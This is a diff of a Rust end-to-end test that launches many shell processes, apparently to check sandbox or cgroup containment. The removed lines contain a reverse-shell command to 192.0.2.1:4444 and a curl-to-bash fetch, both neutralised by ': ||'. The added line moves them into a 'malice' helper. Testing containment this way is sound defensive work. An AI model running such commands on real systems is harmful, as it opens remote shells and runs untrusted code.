@@ -10,6 +10,7 @@ use std::{
 
 use e2e::{
     cgroup::{Cgroup, enter},
+    drill::malice,
     node::Node,
     shell::quiet,
 };
@@ -82,10 +83,7 @@ fn attacks() -> anyhow::Result<()> {
     let marker = node.path("marker");
     let (mut ran, mut ended) = (0, 0);
     for i in 0..ATTACKS {
-        let text = format!(
-            "echo > {}; : || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{i} | bash\n",
-            marker.display()
-        );
+        let text = format!("echo > {}; {}\n", marker.display(), malice(&i.to_string()));
         let shell = if i % 2 == 0 { "/bin/bash" } else { "/bin/dash" };
         let status: ExitStatus = match i % 5 {
             0 => start(&procs, shell, &["-c", &text]).status()?,
